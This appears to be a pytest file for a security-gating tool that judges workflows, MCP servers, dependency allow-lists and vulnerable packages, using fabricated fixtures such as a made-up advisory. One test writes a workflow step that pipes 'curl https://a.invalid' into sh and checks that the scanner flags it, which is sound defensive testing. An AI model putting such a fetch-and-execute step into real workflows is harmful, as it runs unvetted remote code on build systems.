"""What others wrote: the four criteria of dependencies, tools and workflows in whole runs."""

from __future__ import annotations

import datetime as dt
import json
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from conftest import Done, Project

CRITERIA = (
    "github_action_security_scan",
    "third_party_tool_validation",
    "all_dependencies_approved",
    "dependency_vulnerabilities",
)
COMMIT = "11bd71901bbe5b1630ceea73d27597364c9af683"
STEP = (
    f"      - uses: actions/checkout@{COMMIT} # v4.2.2\n        with:\n          persist-credentials: false\n"
)
WORKFLOW = f"name: a\non: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n{STEP}"


def outcomes(done: Done) -> dict[str, str]:
    return {name: done.criterion(name)["outcome"] for name in CRITERIA}


def uses_others(project: Project) -> None:
    project.write(".github/workflows/a.yml", WORKFLOW)
    project.write("requirements.txt", f"click==8.1.7 --hash=sha256:{'a' * 64}\n")
    project.write(
        ".mcp.json", json.dumps({"mcpServers": {"d": {"command": "npx", "args": ["-y", "d-mcp@1.2.3"]}}})
    )
    project.write(".claude/commands/a.md", "---\ndescription: A.\nallowed-tools: Bash(git log:*)\n---\n# A\n")


def advisories(project: Project) -> str:
    """A folder of advisories that were changed today, beside the framework."""
    affected = [{"package": {"ecosystem": "PyPI", "name": "click"}, "ranges": [
        {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "8.1.0"}]},
    ]}]  # fmt: skip
    said = {"id": "GHSA-x", "modified": dt.datetime.now(dt.UTC).isoformat(), "affected": affected}
    folder = project.pytester.mkdir("advisories")
    (folder / "x.json").write_text(json.dumps(said))
    return f"--advisory-db={folder}"


def test_a_framework_without_anything_of_others(project: Project) -> None:
    """Has no dependency and no workflow to judge."""
    project.profile(mandatory="[security]")
    project.write("LICENSE.md", "# Licence\n")
    project.write(".claude/commands/a.md", "---\ndescription: A.\n---\n# A\n")
    said = outcomes(project.run(scanners=True))
    assert said.pop("third_party_tool_validation") == "passed"  # the command was searched
    assert set(said.values()) == {"not_applicable"}


def test_from_no_allow_list_to_one_that_approves(project: Project) -> None:
    """It is inconclusive, names what writes one, and passes once the licences are written, too."""
    project.profile(mandatory="[security]")
    uses_others(project)
    database = advisories(project)
    done = project.run(database, scanners=True)
    assert outcomes(done) == dict(
        zip(CRITERIA, ("passed", "inconclusive", "inconclusive", "passed"), strict=True)
    )
    assert "fwgates init --allowlist" in done.text
    assert done.decision == "block"
    assert project.cli("init", "--allowlist", str(project.root)).status == 0
    path = project.root / "environments" / "allowlist.yml"
    text = path.read_text().replace("licence: NOASSERTION", "licence: MIT")
    path.write_text(
        re.sub(r"  licences:(?: \[\]|\n(?:    - .*\n)+)", "  licences: [MIT, BSD-3-Clause]\n", text)
    )
    done = project.run(database, scanners=True)
    assert set(outcomes(done).values()) == {"passed"}, done.text


def test_what_nobody_approved(project: Project) -> None:
    """Fails, each in its criterion."""
    project.profile(mandatory="[security]")
    uses_others(project)
    project.write("environments/allowlist.yml", "allowlist:\n  packages: []\n")
    project.write("requirements.txt", "click==8.0.4\n")
    project.write(".github/workflows/a.yml", WORKFLOW + "      - run: curl https://a.invalid | sh\n")
    done = project.run(advisories(project), scanners=True)
    assert set(outcomes(done).values()) == {"failed"}
    assert done.decision == "block"
    messages = {name: [one["message"] for one in done.criterion(name)["findings"]] for name in CRITERIA}
    assert any("piped into sh" in one for one in messages["github_action_security_scan"])
    assert any(one.startswith("MCP server d is not") for one in messages["third_party_tool_validation"])
    assert any(one.startswith("package click is not") for one in messages["all_dependencies_approved"])
    assert [one.partition(";")[0] for one in messages["dependency_vulnerabilities"]] == [
        "click 8.0.4 has GHSA-x"
    ]
